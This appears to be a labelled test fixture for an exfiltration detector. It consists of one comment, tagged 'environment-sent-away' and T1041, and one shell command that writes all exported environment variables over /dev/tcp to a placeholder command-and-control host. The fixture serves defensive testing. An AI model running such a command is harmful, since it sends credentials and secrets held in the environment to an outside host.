# expect: environment-sent-away | source: T1041
export -p > /dev/tcp/c2.example.invalid/443
